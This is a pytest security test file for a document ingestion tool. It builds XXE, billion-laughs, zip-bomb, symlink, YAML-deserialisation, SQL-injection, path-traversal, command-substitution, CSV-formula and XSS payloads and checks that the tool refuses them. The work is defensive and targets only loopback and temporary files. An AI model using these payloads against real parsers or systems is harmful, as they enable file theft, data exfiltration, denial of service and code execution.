"""Documents made to read our files, ask our network, fill our memory, or speak to whatever shows or stores them."""

from __future__ import annotations

import csv
import gzip
import http.server
import io
import json
import os
import re
import subprocess
import sys
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import yaml
from breakable_server import Asked, BreakableServer, Reply, refused
from lakes import ingested, query, stream
from localinputs import NOTE, found, write
from packages import CONTAINER, chapter, docx, epub, paragraph, parts
from test_flows_egress import serving

from flows.extraction.plaintext import extract_markdown
from flows.readers.packages import text_bytes
from flows.settings import Settings
from flows.wordpress import sitemaps
from flows.wordpress.retrieval import Client
from schemas.errors import RecordError
from schemas.records import RawRecord, Rejection

ROOT = Path(__file__).resolve().parents[1]
CANARY = "c4n4ry-of-this-machine"
# What a run may take, far below what any of the traps unpacks to.
_MOST_MEMORY = 4 << 30


@pytest.fixture
def listener() -> Iterator[tuple[int, list[str]]]:
    """A server on loopback that must never be asked: its port, and what it was asked."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, format: str, *args: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1], asked
        server.shutdown()


def doctypes(root: str, secret: Path, port: int) -> dict[str, str]:
    """Return a declaration for each attack; the entity that matters is called ``x`` in all of them."""
    tenfold = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    remote = f"http://127.0.0.1:{port}"
    return {
        "billion laughs": f'<!DOCTYPE {root} [<!ENTITY a0 "ha ha ha ha">{tenfold}<!ENTITY x "&a11;">]>',
        "quadratic": f'<!DOCTYPE {root} [<!ENTITY x "{"long " * 20_000}">]>',
        "file": f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{secret.as_uri()}">]>',
        "address": f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{remote}/entity">]>',
        "parameter": f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{remote}/parameter"> %p; <!ENTITY x "&y;">]>',
        "declarations": f'<!DOCTYPE {root} SYSTEM "{remote}/declarations.dtd" [<!ENTITY x "y">]>',
        "inclusion": f'<!DOCTYPE {root} [<!ENTITY % f SYSTEM "{secret.as_uri()}">'
        f"<!ENTITY % e \"<!ENTITY x SYSTEM '{remote}/?%f;'>\"> %e;]>",
    }


def trapped(kind: str, declared: str, number: int, times: int) -> bytes:
    """Return a document of a kind whose texts and attributes use the entity ``x`` so many times."""
    uses = "&x;" * times
    words = f"The tide is out. {uses}"
    if kind == "export":
        return (
            f'<?xml version="1.0"?>{declared}<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>'
            f"<wp:wxr_version>1.2</wp:wxr_version><wp:base_blog_url>https://w.example{uses}</wp:base_blog_url>"
            f'<wp:author a="{uses}"><wp:author_login>{uses}</wp:author_login></wp:author><item a="{uses}"><title>{words}'
            f"</title><wp:post_id>{number}</wp:post_id><wp:post_type>post</wp:post_type><wp:status>publish</wp:status></item>"
            "</channel></rss>"
        ).encode()
    if kind == "rss":
        return (
            f'<?xml version="1.0"?>{declared}<rss version="2.0"><channel><link a="{uses}">https://r.example</link>'
            f'<item a="{uses}"><title>{words}</title><link>https://r.example/{number}</link></item></channel></rss>'
        ).encode()
    if kind == "atom":
        return (
            f'<?xml version="1.0"?>{declared}<feed xmlns="http://www.w3.org/2005/Atom"><entry a="{uses}">'
            f'<title>{words}</title><link href="https://a.example/{number}"/></entry></feed>'
        ).encode()
    head = f'<?xml version="1.0"?>{declared}'
    about = f'<dc:title a="{uses}">{words}</dc:title>'
    one = chapter("One", f'<p title="{uses}">{words}</p>').replace("<!DOCTYPE html>", declared)
    plain = {"one.xhtml": chapter("One", "<p>The tide is out.</p>")}
    opening = CONTAINER.removeprefix('<?xml version="1.0"?>').replace("version=", f'a="{uses}" version=', 1)
    made = {
        "book": lambda: epub({"one.xhtml": one}),
        "container": lambda: epub(plain, **{"META-INF/container.xml": head + opening}),
        "package": lambda: _with_package(plain, head, about),
        "letter": lambda: _letter("word/document.xml", declared, paragraph(words, uses)),
        "properties": lambda: _letter("docProps/core.xml", declared, paragraph("The tide is out."), words),
    }
    return made[kind]()


def _with_package(chapters: dict[str, str | bytes], head: str, about: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(epub(chapters, about))) as archive:
        members: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    opf = bytes(members["OEBPS/book.opf"]).decode().removeprefix('<?xml version="1.0"?>')
    return parts(members | {"OEBPS/book.opf": head + opf}, stored="mimetype")


def _letter(part: str, declared: str, body: str, title: str = "") -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx(body))) as archive:
        members: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    text = bytes(members[part]).decode().replace('<?xml version="1.0"?>', f'<?xml version="1.0"?>{declared}')
    return parts(members | {part: text.replace("<dc:title>Tides", f"<dc:title>{title}")})


KINDS = {
    "export": ("rss", "xml"), "rss": ("rss", "xml"), "atom": ("feed", "xml"), "book": ("html", "epub"),
    "container": ("container", "epub"), "package": ("package", "epub"), "letter": ("w:document", "docx"),
    "properties": ("cp:coreProperties", "docx"),
}  # fmt: skip


def presslake(*arguments: str, work: Path) -> subprocess.CompletedProcess[str]:
    import resource

    environment = {
        **os.environ, "PYTHONPATH": str(ROOT), "XDG_RUNTIME_DIR": str(work), "PRESSLAKE_DOCUMENT_TIMEOUT_S": "20",
        "HOME": str(work),
    }  # fmt: skip
    return subprocess.run(
        [sys.executable, "-m", "flows.cli", *arguments], capture_output=True, text=True, env=environment, cwd=work,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_DATA, (_MOST_MEMORY, _MOST_MEMORY)),
    )  # fmt: skip


@pytest.mark.timeout(300)
def test_entities_read_no_file_ask_nobody_and_grow_to_nothing(tmp_path: Path, listener: tuple[int, list[str]]) -> None:
    port, asked = listener
    secret = write(tmp_path / "secret.txt", CANARY.encode())
    count = 0
    for kind, (root, ending) in KINDS.items():
        for attack, declared in doctypes(root, secret, port).items():
            uses = 5000 if attack == "quadratic" else 1
            write(tmp_path / "in" / f"{kind}-{attack}.{ending}", trapped(kind, declared, count, uses))
            count += 1
    write(tmp_path / "in" / "note.txt", NOTE)
    done = presslake("ingest", str(tmp_path / "in"), "--lake", str(tmp_path / "L"), "--json", work=tmp_path)
    assert done.returncode in (0, 3), done.stderr
    assert not asked
    seen = query(tmp_path / "L", "SELECT id, title, text, markdown, extra, excerpt FROM documents")
    refused_ones = query(tmp_path / "L", "SELECT id, message FROM quarantine")
    assert "note.txt" in {row["id"] for row in seen}
    assert len(seen) + len(refused_ones) == 1 + count
    assert CANARY not in json.dumps(seen + refused_ones)
    for path in (tmp_path / "L").rglob("*"):
        assert path.is_dir() or CANARY.encode() not in path.read_bytes(), path
    assert all(len(str(row)) < 2_000_000 for row in seen), max((len(str(row)), row["id"]) for row in seen)


INDEX = '<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{}</sitemapindex>'
SET = '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{}</urlset>'


def located(tag: str, *addresses: str) -> str:
    return "".join(f"<{tag}><loc>{address}</loc></{tag}>" for address in addresses)


def listed(server: BreakableServer, tmp_path: Path) -> sitemaps.Listed:
    with Client(Settings(lake=str(tmp_path / "L"), max_retries=1), origin=server.url) as client:
        return sitemaps.listed(client, server.url + "/")


@pytest.fixture
def sitemapped(breakable: BreakableServer) -> BreakableServer:
    breakable.site()
    return breakable


def test_sitemaps_that_name_themselves_or_each_other_end(sitemapped: BreakableServer, tmp_path: Path) -> None:
    url = sitemapped.url
    sitemapped.faults += [
        serving("/wp-sitemap.xml", INDEX.format(located("sitemap", f"{url}/wp-sitemap.xml", f"{url}/b.xml", "c.xml"))),
        serving("/b.xml", INDEX.format(located("sitemap", f"{url}/wp-sitemap.xml", f"{url}/b.xml"))),
        serving("/c.xml", SET.format(located("url", f"{url}/one/", "http://[", "https://other.example/", f"{url}/"))),
    ]
    assert listed(sitemapped, tmp_path) == sitemaps.Listed({f"{url}/one/"})
    asked = [asked.path for asked in sitemapped.asked if asked.path.endswith(("p.xml", "b.xml", "c.xml"))]
    assert sorted(asked) == ["/b.xml", "/c.xml", "/sitemap.xml", "/wp-sitemap.xml"]


def test_of_fifty_thousand_sitemaps_few_are_read_and_none_is_held(
    sitemapped: BreakableServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def endless(asked: Asked, reply: Reply) -> Reply | None:
        if not asked.path.endswith(".xml"):
            return None
        names = (f"{sitemapped.url}/{asked.number}-{n}.xml" for n in range(50_000))
        return Reply(200, INDEX.format(located("sitemap", *names)).encode(), {"Content-Type": "application/xml"})

    monkeypatch.setattr(sitemaps, "_MOST", 7)
    sitemapped.faults.append(endless)
    found = listed(sitemapped, tmp_path)
    assert not found.addresses and "7 were read" in found.left_out
    assert sum(asked.path.endswith(".xml") for asked in sitemapped.asked) == 7


def test_sitemaps_of_more_addresses_than_are_held_are_told_of(
    sitemapped: BreakableServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = sitemapped.url
    names = [f"{url}/s{number}.xml" for number in range(9)]
    sitemapped.faults.append(serving("/wp-sitemap.xml", INDEX.format(located("sitemap", *names))))
    for number, name in enumerate(names):
        pages = (f"{url}/{number}-{page}/" for page in range(100))
        sitemapped.faults.append(serving(urlsplit(name).path, SET.format(located("url", *pages))))
    monkeypatch.setattr(sitemaps, "_MOST_ADDRESSES", 250)
    found = listed(sitemapped, tmp_path)
    assert len(found.addresses) == 300 and "300 addresses; there are more" in found.left_out
    lake = tmp_path / "L"
    outcome = ingested(Settings(lake=str(lake), workers=1, max_retries=0, max_requests=60), url)
    row = stream(outcome, "sitemap")
    assert row["completeness"] == "partial" and "there are more" in row["reason"]


@pytest.mark.parametrize("body", [
    gzip.compress(bytes(200 << 20), 1), gzip.compress(b"<urlset>" + b" " * (100 << 20), 1), b"\x1f\x8b\x08",
    gzip.compress(b"<urlset/>")[:-9],
])  # fmt: skip
def test_a_packed_sitemap_is_not_unpacked_beyond_what_the_protocol_allows(body: bytes) -> None:
    import tracemalloc

    tracemalloc.start()
    try:
        assert sitemaps.parsed(body) is None
        assert tracemalloc.get_traced_memory()[1] < 180 << 20
    finally:
        tracemalloc.stop()


@pytest.mark.timeout(200)
def test_entities_of_a_site_s_sitemap_and_feed_read_no_file_and_ask_nobody(
    sitemapped: BreakableServer, tmp_path: Path, listener: tuple[int, list[str]]
) -> None:
    port, asked = listener
    secret = write(tmp_path / "secret.txt", CANARY.encode())
    settings = Settings(lake=str(tmp_path / "L"), workers=1, max_retries=0)
    for attack, declared in doctypes("r", secret, port).items():
        uses = "&x;" * (5000 if attack == "quadratic" else 1)
        feed = (
            f'{declared}<rss version="2.0"><channel><item a="{uses}"><title>The tide is out. {uses}</title>'
            f"<link>{sitemapped.url}/one/</link><guid>{sitemapped.url}/?p=1</guid></item></channel></rss>"
        )
        places = located("url", f"{sitemapped.url}/{uses}")
        sitemapped.faults[:] = [
            lambda asked, reply: refused(401, "rest_disabled") if asked.route is not None else None,
            serving("/wp-sitemap.xml", f"{declared}{SET.format(places)}"),
            lambda asked, reply, feed=feed: Reply(200, feed.encode()) if "feed" in asked.params else None,
        ]
        assert ingested(settings, sitemapped.url).exit_code in (1, 3), attack
    assert not asked
    assert all(len(one.path) < 10_000 and CANARY not in one.path for one in sitemapped.asked)
    for path in (tmp_path / "L").rglob("*"):
        assert path.is_dir() or CANARY.encode() not in path.read_bytes(), path


# -- archives ----------------------------------------------------------------------------------------------------------


def overlapping(members: int, size: int) -> bytes:
    """Return a zip file whose directory names the same compressed bytes again and again."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0.txt", b"tide " * (size // 5))
        (kernel,) = archive.infolist()
        for number in range(1, members):
            again = zipfile.ZipInfo(f"{number}.txt")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset", "create_system"):
                setattr(again, name, getattr(kernel, name))
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
    return target.getvalue()


def test_a_zip_whose_members_overlap_gives_no_more_than_one_of_them(tmp_path: Path) -> None:
    records = found(write(tmp_path / "bomb.zip", overlapping(300, 1 << 20)))
    assert len(records) == 300 and len([r for r in records if isinstance(r, RawRecord)]) <= 1
    assert {r.reason for r in records if isinstance(r, Rejection)} == {"broken_archive"}


def special(name: str, type_: bytes, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.devmajor, info.devminor = type_, link, 1, 5
    return info


def test_an_archive_s_links_pipes_and_devices_are_not_followed(tmp_path: Path) -> None:
    secret = write(tmp_path / "secret.txt", CANARY.encode())
    with tarfile.open(tmp_path / "t.tar", "w") as archive:
        for info in (
            special("soft.txt", tarfile.SYMTYPE, str(secret)), special("hard.txt", tarfile.LNKTYPE, "../secret.txt"),
            special("zero.txt", tarfile.CHRTYPE), special("disk.txt", tarfile.BLKTYPE),
            special("pipe.txt", tarfile.FIFOTYPE), special("soft", tarfile.SYMTYPE, "/"),
        ):  # fmt: skip
            archive.addfile(info)
        inside = tarfile.TarInfo(f"soft{secret}")
        inside.size = len(NOTE)
        archive.addfile(inside, io.BytesIO(NOTE))
    with zipfile.ZipFile(tmp_path / "z.zip", "w") as archive_:
        link = zipfile.ZipInfo("soft.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive_.writestr(link, str(secret))
        archive_.writestr("a.txt", NOTE)
    records = found(tmp_path / "t.tar") + found(tmp_path / "z.zip")
    assert CANARY not in str(records)
    assert NOTE in [record.payload for record in records]
    assert secret.read_text() == CANARY


def test_a_sparse_member_and_a_bomb_in_layers_are_refused_by_size(tmp_path: Path) -> None:
    data = bytes(64 << 20)
    for pack in (gzip.compress, gzip.compress):
        data = pack(data)
    write(tmp_path / "in" / "layers.txt.gz.gz", data)
    sparse = tarfile.TarInfo("sparse.txt")
    sparse.type, sparse.size = tarfile.GNUTYPE_SPARSE, 0
    header = bytearray(sparse.tobuf(tarfile.GNU_FORMAT))
    header[386:410] = b"%011o\0%011o\0" % (1 << 32, 0)
    header[483:495] = b"%011o\0" % (1 << 32)
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    write(tmp_path / "in" / "sparse.tar", bytes(header) + bytes(1024))
    records = found(tmp_path / "in", most=1 << 20)
    assert len(records) == 2 and all(isinstance(record, Rejection) for record in records), records


@pytest.mark.timeout(60)
def test_devices_in_a_folder_hold_nothing_up(tmp_path: Path) -> None:
    write(tmp_path / "in" / "a.txt", NOTE)
    os.mkfifo(tmp_path / "in" / "pipe.txt")
    for name in ("zero", "tty", "random"):
        (tmp_path / "in" / f"{name}.txt").symlink_to(f"/dev/{name}")
    records = found(tmp_path / "in")
    assert {r.id for r in records if isinstance(r, Rejection)} == {"pipe.txt", "zero.txt", "tty.txt", "random.txt"}
    assert [r.payload for r in records if isinstance(r, RawRecord)] == [NOTE]


@pytest.mark.parametrize("kind", ["book", "letter"])
def test_a_part_that_is_not_counted_is_not_unpacked(tmp_path: Path, kind: str) -> None:
    bomb = b"<p>" + b"tide " * (4 << 20)
    if kind == "book":
        data = epub({"one.xhtml": chapter("One", "<p>The tide is out.</p>"), "two.png": bomb})
    else:
        links = (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r1" Target="../bomb.bin" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/styles"/></Relationships>'
        )
        data = docx(paragraph("The tide is out."), **{"word/_rels/document.xml.rels": links, "bomb.bin": bomb})
    assert text_bytes(data) < 10_000
    from flows.readers.packages import DOCX, EPUB, read_package

    if kind == "book":
        with pytest.raises(RecordError, match=r"two\.png"):
            read_package(data, EPUB)
    else:
        assert "The tide is out." in read_package(data, DOCX).html


def test_aliases_in_front_matter_unroll_to_nothing() -> None:
    layers = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12))
    for matter in (f"a0: &a0 [ha, ha]\n{layers}", "a: &a [*a]\n", "title: !!python/object/apply:os.system [true]\n"):
        made = extract_markdown(f"---\n{matter}---\n\nThe tide is out.\n", fallback_title="T")
        assert not made.metadata and "The tide is out." in made.extracted.text


# -- names and texts that speak to what shows or stores them -----------------------------------------------------------

DROP = "'; DROP TABLE documents; --"
SPOKEN = [
    DROP, '"; DROP VIEW documents; --', "../../../../tmp/up", "/etc/passwd", "a\x00b", "one\ntwo\r\nthree", "x" * 4096,
    "Case", "case", "CON", "aux.txt", "nul.", "com1.md", " ", ".", "..", "~", "$(touch up)", "`touch up`", "%00%2e%2e%2f",
    "\x1b]0;owned\x07\x1b[2J", "\x9b31m", "\u202eevil", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "\t=1",
    "<script>alert(1)</script>", "|a|[b](javascript:alert(1))|<img src=x onerror=1>|", "---\n- x", "!!python/object:os.x",
    "*alias", "&anchor", "{{ 7 * 7 }}", "%s%n{0}", "日本語\ufeff", "e\u0301", "\u00e9",
]  # fmt: skip
KEPT = [said for said in SPOKEN if "\x00" not in said]
_OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


@pytest.fixture(scope="module")
def spoken(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A lake of posts whose ids, titles, texts and authors all say one of these; read twice."""
    folder = tmp_path_factory.mktemp("spoken")
    posts = [
        {
            "id": said, "type": "post", "link": "https://p.example/?p=1", "slug": said, "date_gmt": "2024-05-01T10:00:00",
            "title": {"rendered": said.replace("&", "&amp;").replace("<", "&lt;")}, "author_name": said,
            "content": {"rendered": f"<p>{said.replace('&', '&amp;').replace('<', '&lt;')}</p>"},
        }
        for said in SPOKEN
    ]  # fmt: skip
    write(folder / "in" / "posts.json", json.dumps(posts).encode())
    for said in SPOKEN:
        name = said.replace("/", "%2F").replace("\x00", "%00").encode()[:200].decode("utf-8", "ignore")
        if name not in (".", ".."):
            write(folder / "in" / "names" / name, f"{said}\n\nThe tide is out.\n".encode())
    settings = Settings(lake=str(folder / "L"), workers=1)
    ingested(settings, str(folder / "in"), site=None)
    ingested(settings, str(folder / "in"), site=None)
    # The same under a site with such a name.
    ingested(settings, str(folder / "in" / "names"), site=DROP)
    return folder


def test_every_name_comes_back_as_it_was_and_nothing_lies_beside_the_lake(spoken: Path) -> None:
    rows = query(spoken / "L", "SELECT id, title, document_version FROM documents WHERE kind = 'post'")
    assert {row["id"] for row in rows} == set(KEPT) and len(rows) == len(KEPT)
    (refused_one,) = query(spoken / "L", "SELECT DISTINCT kind, rule FROM quarantine WHERE site = 'p.example'")
    assert refused_one["rule"]  # no table may hold a NUL in a key
    assert {row["document_version"] for row in query(spoken / "L", "SELECT document_version FROM documents")} == {1}
    assert sorted(path.name for path in spoken.iterdir()) == ["L", "in"]
    for path in (spoken / "L").rglob("*"):
        relative = str(path.relative_to(spoken / "L"))
        assert len(path.name) < 200 and relative.isprintable() and not re.search(r"DROP|touch|script|CON\b", relative)
    (again,) = query(spoken / "L", "SELECT count(*) AS n FROM runs WHERE stream = 'files' AND changed > 0")
    assert again["n"] == 0


def said_by(spoken: Path, *arguments: str) -> str:
    done = presslake(*arguments, "--lake", str(spoken / "L"), work=spoken)
    assert done.returncode in (0, 1, 2) and "Traceback" not in done.stderr, (arguments, done.stderr)
    return done.stdout + done.stderr


@pytest.mark.timeout(300)
def test_no_command_obeys_what_the_lake_says(spoken: Path, tmp_path: Path) -> None:
    before = query(spoken / "L", "SELECT site, id, title FROM documents ORDER BY ALL")
    shown = [
        said_by(spoken, "sql", f"SELECT site, id, title FROM documents WHERE title = '{DROP.replace(chr(39), chr(39) * 2)}'"),
        said_by(spoken, "sql", "SELECT id, title, text FROM documents"),
        said_by(spoken, "sql", "SELECT id, title FROM documents", "--format", "markdown"),
        said_by(spoken, "sql", f"SELECT * FROM {DROP}"), said_by(spoken, "sql", f"FROM search('{DROP}')"),
        said_by(spoken, "sql", f"FROM search('{DROP.replace(chr(39), chr(39) * 2)}')"),
        said_by(spoken, "status"), said_by(spoken, "runs"), said_by(spoken, "check"),
        said_by(spoken, "quarantine", "list"), said_by(spoken, "quarantine", "show", DROP),
        said_by(spoken, "purge", "--site", f"nowhere{DROP}", "--yes"), said_by(spoken, "purge", "--author", "\x1b[2J" + DROP),
        said_by(spoken, "export", "--where", f"title = {DROP}", "-o", str(tmp_path / "x.jsonl")),
        said_by(spoken, "report", "-o", str(tmp_path / "report.html")),
        said_by(spoken, "ingest", "\x1b[2J" + DROP), said_by(spoken, "ingest", str(tmp_path / ("\u202e" + DROP))),
    ]  # fmt: skip
    for text in shown:
        assert not _OBEYED.search(text), text
    assert query(spoken / "L", "SELECT site, id, title FROM documents ORDER BY ALL") == before
    page = (tmp_path / "report.html").read_text()
    assert "<script" not in page and "<img" not in page and not _OBEYED.search(page)
    assert not list(spoken.rglob("up")) and not list(tmp_path.rglob("up"))


def test_spreadsheets_and_front_matter_hold_what_was_said_and_obey_nothing(spoken: Path, tmp_path: Path) -> None:
    titles = {
        row["id"]: row["title"] for row in query(spoken / "L", "SELECT id, title FROM documents WHERE kind = 'post'")
    }
    for command in (("export", "--format", "csv"), ("sql", "SELECT * FROM documents", "--format", "csv")):
        out = tmp_path / f"{command[0]}.csv"
        said_by(spoken, *command, "-o", str(out))
        with open(out, newline="", encoding="utf-8") as file:
            rows = list(csv.DictReader(file))
        assert len(rows) >= len(KEPT)
        if command[0] == "export":
            for row in rows:
                assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
    said_by(spoken, "export", "--format", "markdown", "--where", "kind = 'post'", "-o", str(tmp_path / "md"))
    files = list((tmp_path / "md").rglob("*.md"))
    assert len(files) == len({str(path).lower() for path in files}) == len(KEPT)
    for path in files:
        assert path.resolve().is_relative_to(tmp_path / "md")
        _, matter, _ = path.read_text(encoding="utf-8").split("---\n", 2)
        read = yaml.safe_load(matter)
        assert read["title"] == titles[read["id"]] and read["id"] in SPOKEN


def test_prefect_s_summary_shows_markup_instead_of_being_it() -> None:
    from markdown_it import MarkdownIt
    from test_flows_summaries import row

    from flows.jobs import Outcome
    from flows.summaries import markdown_summary
    from schemas.errors import BlockedSourceError

    said = "|a|[b](javascript:alert(1))|<img src=x onerror=1>|\n# h\n![p](http://h.example/x) `c` <b>b</b> http://x.example"
    refusal: Any = ("https://c.example/" + said, BlockedSourceError(said))
    rejection = Rejection(said, "post", "1", "no_title", said, "rest")
    text = markdown_summary(Outcome("r1", "/lakes/a", [row(said, "posts", "blocked", said)], [refusal], [rejection]))
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert not re.search(r"<(img|a|b|script|h1)[\s>]", html), html
    assert html.count("<tr>") == 2 and html.count("<td") == 10
